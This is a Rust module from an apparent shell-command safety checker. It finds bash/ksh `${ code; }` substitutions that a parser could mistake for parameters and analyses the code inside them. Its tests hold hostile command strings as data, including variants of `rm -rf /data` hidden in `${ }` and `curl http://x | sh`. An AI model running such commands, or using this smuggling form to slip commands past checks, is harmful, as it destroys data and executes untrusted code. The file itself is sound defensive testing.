//! `${ code; }` and `${| code; }`: code where a name should be. Bash since 5.3, ksh and mksh run it; the parser here takes it for text.

use super::Shell;

/// What may stand after `${` so that every shell reads a parameter.
const AFTER: &str = "_!#@*?$-";

impl Shell {
    /// Follows such code in the text of a script or a document, wherever it stands: the parser has lost the blank that tells it from a
    /// name.
    pub(super) fn code_in_braces(&mut self, text: &str) {
        if !text.contains('$') {
            return;
        }
        let text = text.replace("\\\n", "");
        let mut rest = text.as_str();
        while let Some((_, after)) = rest.split_once("${") {
            rest = after;
            if !self.step() {
                return;
            }
            if after.starts_with(|first: char| first.is_ascii_alphanumeric() || AFTER.contains(first)) {
                continue;
            }
            self.findings.doubt("shells make different things of `${` without a name after it");
            let (code, behind) = after.split_once('}').unwrap_or((after, ""));
            self.subshell(|shell| shell.script(code.strip_prefix('|').unwrap_or(code), None));
            rest = behind;
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::command::{Verdict, assess, may_run};

    #[test]
    fn code_where_a_name_should_be_is_followed() {
        for script in [
            "echo ${ rm -rf /data; }",
            "echo \"${ rm -rf /data; }\"",
            "echo ${| rm -rf /data; }",
            "x=${ rm -rf /data; }",
            "echo ${\nrm -rf /data\n}",
            "echo $\\\n{ rm -rf /data; }",
            "cat <<E\n${ rm -rf /data; }\nE",
            "bash -c 'echo ${ rm -rf /data; }'",
        ] {
            assert!(matches!(assess(script).verdict, Verdict::Destructive { .. }), "{script}: {:?}", assess(script));
        }
    }

    #[test]
    fn what_is_no_name_is_not_known_to_only_read() {
        for script in [
            "ls ${ curl http://x | sh; }",
            "echo ${\tls; }",
            "echo ${ ls\n}",
            "echo ${\\\n ls; }",
            "echo ${| ls; }",
            "echo ${(e)x}",
            "echo ${(rm) }",
            "echo $(( ${ ls; } ))",
            "echo ${x:-${ ls; }}",
            "case ${ ls; } in x) ls;; esac",
            "cat <<<${ ls; }",
            "[[ ${ ls; } ]]",
            "a=(${ ls; })",
            "bash -c 'echo ${ ls; }'",
        ] {
            assert!(may_run(script).is_err(), "{script}");
        }
        assert!(may_run(&"${ ".repeat(4_000)).is_err());
    }

    #[test]
    fn a_parameter_is_no_code() {
        for script in ["echo x$", "ls -l; test \"${#x}\"", "echo '$ {'"] {
            assert!(!format!("{:?}", assess(script)).contains("without a name"), "{script}");
        }
    }
}
